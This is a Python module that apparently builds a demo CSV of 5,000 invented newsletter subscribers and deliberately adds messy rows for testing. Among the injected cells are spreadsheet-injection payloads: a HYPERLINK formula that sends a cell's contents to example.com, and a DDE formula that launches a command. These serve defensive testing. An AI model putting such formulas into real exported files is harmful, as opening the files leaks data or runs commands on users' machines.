"""The sample list: five thousand invented recipients as a newsletter tool would export them."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

from mailworthy.flow.demo.addresses import Entry, entries
from mailworthy.flow.demo.dice import Dice

HEADER = (
    "email",
    "first_name",
    "last_name",
    "country",
    "signup_date",
    "last_open",
    "source",
    "consent",
    "note",
)
ROWS = 5000

SOURCES = (
    ("web form", 42), ("shop checkout", 24), ("newsletter footer", 8), ("trade fair", 9), ("referral", 6), ("CRM import", 7), ("partner list", 4),
)  # fmt: skip
CONSENTS = (("double opt-in", 58), ("opt-in", 26), ("existing customer", 9), ("", 7))
NOTES = (
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    "prefers plain text",
    "VIP",
    "met at the fair",
    "Stammkunde",
    "担当：佐藤",
)

# What a spreadsheet would run, and what only looks like it.
FORMULAS = (
    '=HYPERLINK("http://example.com/?leak="&A2,"click")', "=1+1", "@SUM(1+1)", "+49 30 000000", "-2+3", "\t=1+1", "=cmd|'/c calc'!A1",
)  # fmt: skip
LONG_NOTES = (
    "called twice\nno answer",
    'said: "please write,\ndon\'t call"',
    "Rückruf\r\nerbeten; nur vormittags",
    "住所変更\n要確認",
)


def rows(today: date, dice: Dice | None = None) -> Iterator[list[str]]:
    """Give the sample: the header, then 5,000 rows in the order of sign-up, the same for the same day and dice.

    Args:
        today: The day from which sign-ups and opens are counted back.
        dice: Chance; the demo's own seed unless given.
    """
    dice = dice or Dice()
    filled = [_row(dice, entry, today) for entry in entries(dice)]
    yield list(HEADER)
    yield from _with_trouble(dice, sorted(filled, key=lambda row: row[4]))


def write_sample(path: Path, today: date, dice: Dice | None = None) -> None:
    """Write the sample as a CSV file in UTF-8, as :func:`rows` gives it."""
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows(today, dice))


def _row(dice: Dice, entry: Entry, today: date) -> list[str]:
    signed_up = today - timedelta(days=dice.number(3, 2300))
    opened = _last_open(dice, signed_up, today)
    who = entry.who
    return [
        entry.address, who.given, who.family, who.country, signed_up.isoformat(), opened.isoformat() if opened else "",
        dice.weighted(SOURCES), dice.weighted(CONSENTS), dice.pick(NOTES),
    ]  # fmt: skip


def _last_open(dice: Dice, signed_up: date, today: date) -> date | None:
    """Give the day of the last open: most are recent, a fifth lies more than a year back, some never opened."""
    since = dice.weighted((((0, 45), 52), ((46, 180), 19), ((181, 364), 9), ((366, 1500), 15), (None, 5)))
    if since is None:
        return None
    return max(signed_up, today - timedelta(days=dice.number(*since)))


# How many rows meet each trouble of tables.
FORMULA_CELLS = 24
LINE_BREAKS = 16
SHORT_ROWS = 5
LONG_ROWS = 5


def _with_trouble(dice: Dice, table: list[list[str]]) -> list[list[str]]:
    for _ in range(FORMULA_CELLS):
        dice.pick(table)[dice.pick((1, 2, 8))] = dice.pick(FORMULAS)
    for _ in range(LINE_BREAKS):
        dice.pick(table)[8] = dice.pick(LONG_NOTES)
    for _ in range(SHORT_ROWS):
        del dice.pick(table)[-dice.number(1, 3) :]
    for _ in range(LONG_ROWS):
        dice.pick(table).append("moved here from an old table")
    return table
